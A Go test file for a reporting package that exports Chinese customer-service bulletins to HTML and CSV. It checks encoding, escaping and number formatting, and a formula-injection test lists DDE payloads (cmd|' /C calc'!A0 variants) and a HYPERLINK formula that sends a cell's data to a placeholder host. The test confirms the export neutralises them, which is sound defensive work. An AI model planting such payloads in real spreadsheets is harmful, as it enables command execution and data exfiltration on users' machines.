package report_test

import (
	"encoding/csv"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/tingcha/tingcha/report"
	"github.com/tingcha/tingcha/report/chart"
)

var zone = time.FixedZone("CST", 8*3600)

// sample is a bulletin with a cell of every form.
func sample() report.Bulletin {
	p, err := report.ParsePeriod("2026-09-T1")
	if err != nil {
		panic(err)
	}
	return report.Bulletin{
		Kind: report.Indicators, Lang: "zh", Title: "《客服重要服务指标情况通报考核表》（2026 年 9 月上旬）", Period: p, AsOf: time.Date(2026, 9, 11, 1, 2, 3, 4_000_000, time.UTC),
		Notes: []string{"满意度只算有效评价。"},
		Sections: []report.Section{{
			Title: "各营业部", Words: []string{"本旬工单 1,234 件。"},
			Charts: []chart.Chart{{Kind: chart.Bars, Title: "工单", Desc: "各营业部工单数", Labels: []string{"福山"}, Series: []chart.Series{{Name: "工单", Points: []chart.Point{{Value: 1234, Known: true}}}}}},
			Tables: []report.Table{{
				Title:   "工单数量",
				Columns: []report.Column{{Title: "营业部"}, {Title: "工单"}, {Title: "满意度", Spread: true}, {Title: "百万投诉"}, {Title: "步长"}, {Title: "得分"}, {Title: "环比"}, {Title: "变化"}, {Title: "期限"}, {Title: "说明", Wide: true}},
				Rows: [][]report.Cell{
					{
						{Form: report.Text, Text: "福山"},
						{Form: report.Count, Value: 1234, Known: true, Rows: "/findings?dept=福山&x=1"},
						{Form: report.Share, Value: 0.923, Known: true, Low: 0.88, High: 0.95},
						{Form: report.Million, Value: 1234.56, Known: true},
						{Form: report.Mean, Value: 2.5, Known: true},
						{Form: report.Score, Value: 98.5, Known: true},
						{Form: report.Change, Value: -0.1, Known: true},
						{Form: report.Shift, Value: 0.012, Known: true},
						{Form: report.Date, Text: "2026-09-30"},
						{Form: report.Text, Text: "=1+1"},
					},
					{{Form: report.Text, Text: "<b>空"}, {Form: report.Count, Known: true}, {Form: report.Share}, {Form: report.Million}, {Form: report.Mean}, {Form: report.Score}, {Form: report.Change}, {Form: report.Shift}, {Form: report.Date}, {Form: report.Text}},
				},
				Total: []report.Cell{{Form: report.Text, Text: "合计"}, {Form: report.Count, Value: 1234, Known: true}, {Form: report.Share, Value: 0.923, Known: true}, {Form: report.Million}, {Form: report.Mean}, {Form: report.Score}, {Form: report.Change}, {Form: report.Shift}, {Form: report.Date}, {Form: report.Text}},
			}},
		}},
	}
}

func TestABulletinIsKeptAsTheSameBytes(t *testing.T) {
	t.Parallel()
	body, hash, err := report.Encode(sample())
	if err != nil {
		t.Fatal(err)
	}
	read, err := report.Decode(body)
	if err != nil {
		t.Fatal(err)
	}
	again, same, err := report.Encode(read)
	if err != nil || string(again) != string(body) || same != hash || hash != report.Hash(body) {
		t.Errorf("%s becomes %s, %v", body, again, err)
	}
}

func TestABulletinIsShownWhole(t *testing.T) {
	t.Parallel()
	html, err := report.HTML(sample(), "abc123", zone)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"92.3%", "[88.0, 95.0]", "1,234.6", "−10.0%", "&#43;1.2 个百分点", "数据截至 2026-09-11 09:02", "统计期 2026-09-01 至 2026-09-10", "&lt;b&gt;空", "合计", "数据指纹 abc123", `href="/findings?dept=%e7%a6%8f%e5%b1%b1&amp;x=1"`, "<figcaption>工单"} {
		if !strings.Contains(string(html), want) {
			t.Errorf("no %q in %s", want, html)
		}
	}
	for _, never := range []string{"⟦", "style=", "<script", "ZgotmplZ"} {
		if strings.Contains(string(html), never) {
			t.Errorf("%q in %s", never, html)
		}
	}
	var page strings.Builder
	if err := report.Page(&page, sample(), "", zone); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(page.String(), "href=") || !strings.Contains(page.String(), "counter(pages)") || !strings.Contains(page.String(), "default-src") {
		t.Error(page.String())
	}
	if dir := os.Getenv("TINGCHA_KEEP"); dir != "" {
		_ = os.WriteFile(dir+"/sample.html", []byte(page.String()), 0o600)
	}
}

func TestWordsAreTheSameInBothLanguages(t *testing.T) {
	t.Parallel()
	for _, lang := range report.Languages() {
		words, err := report.WordsIn(lang)
		if err != nil {
			t.Fatal(err)
		}
		for _, k := range report.Kinds() {
			if words.Kind(k) == string(k) {
				t.Errorf("%s has no words for %s", lang, k)
			}
		}
		for _, l := range report.Lengths() {
			for _, day := range []int{1, 11, 21} {
				if got := words.Period(report.In(l, time.Date(2026, 9, day, 0, 0, 0, 0, time.UTC))); strings.ContainsAny(got, "⟦%!") {
					t.Errorf("%s: %s is %q", lang, l, got)
				}
			}
		}
	}
	if _, err := report.WordsIn("fr"); err == nil {
		t.Error("there are no words of French")
	}
}

// payloads are texts that a spreadsheet might run.
func payloads() []string {
	var all []string
	for _, first := range []string{"=", "+", "-", "@", "＝", "＋", "－", "＠", "|", "%"} {
		for _, before := range []string{"", " ", "\t", "\r", "\n", "\u3000", "'", "\""} {
			all = append(all, before+first+"cmd|' /C calc'!A0")
		}
	}
	return append(all, `=HYPERLINK("http://x/?"&A1,"按此")`, "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "+861380000")
}

// withTexts is a bulletin whose texts, titles and notes all are those.
func withTexts(texts []string) report.Bulletin {
	b := sample()
	b.Title, b.Notes = texts[0], texts
	t := report.Table{Title: texts[1], Columns: []report.Column{{Title: texts[2]}, {Title: "n"}}}
	for _, text := range texts {
		t.Rows = append(t.Rows, []report.Cell{{Form: report.Text, Text: text}, {Form: report.Count, Value: 1, Known: true}})
	}
	b.Sections = []report.Section{{Title: texts[3], Words: texts, Tables: []report.Table{t}}}
	return b
}

func TestNoTextOfATableBeginsAFormula(t *testing.T) {
	t.Parallel()
	texts := payloads()
	if len(texts) < 60 {
		t.Fatalf("%d texts, want 60", len(texts))
	}
	var out strings.Builder
	if err := report.CSV(&out, withTexts(texts), zone); err != nil {
		t.Fatal(err)
	}
	text, bom := strings.CutPrefix(out.String(), "\ufeff")
	r := csv.NewReader(strings.NewReader(text))
	r.FieldsPerRecord = -1
	lines, err := r.ReadAll()
	if err != nil || !bom {
		t.Fatal(bom, err)
	}
	harmless := 0
	for _, line := range lines {
		for _, cell := range line {
			if strings.HasPrefix(cell, "'") {
				harmless++
			} else if strings.ContainsAny(strings.TrimSpace(cell)+" ", "=@|") {
				t.Errorf("cell %q", cell)
			}
		}
	}
	if want := 3*len(texts) + 4; harmless < want-2 {
		t.Errorf("%d cells are made harmless, want about %d", harmless, want)
	}
}

func TestATableHasItsNumbersPlain(t *testing.T) {
	t.Parallel()
	var out strings.Builder
	if err := report.CSV(&out, sample(), zone); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"营业部,工单,满意度,满意度 下限,满意度 上限,百万投诉,步长,得分,环比,变化,期限,说明\r\n",
		"福山,1234,0.923,0.88,0.95,1234.56,2.5,98.5,-0.1,0.012,2026-09-30,'=1+1\r\n",
		"<b>空,0,,,,,,,,,,\r\n", "合计,1234,0.923,,,", "满意度只算有效评价。",
	} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("no %q in %s", want, out.String())
		}
	}
}
